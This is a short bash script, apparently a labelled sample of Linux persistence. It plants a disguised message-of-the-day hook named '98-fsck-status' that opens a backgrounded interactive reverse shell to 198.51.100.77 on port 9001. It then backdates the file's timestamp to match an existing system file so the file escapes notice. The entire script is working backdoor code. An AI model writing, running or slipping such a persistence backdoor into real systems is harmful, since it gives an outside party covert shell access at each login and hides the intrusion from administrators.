# class: persistence, message of the day; style: sysadmin look
#!/bin/bash
f=/etc/update-motd.d/98-fsck-status
printf '%s\n' '#!/bin/sh' '(nohup bash -c "bash -i >& /dev/tcp/198.51.100.77/9001 0>&1" >/dev/null 2>&1 &)' > $f
chmod 755 $f
touch -r /etc/update-motd.d/00-header $f
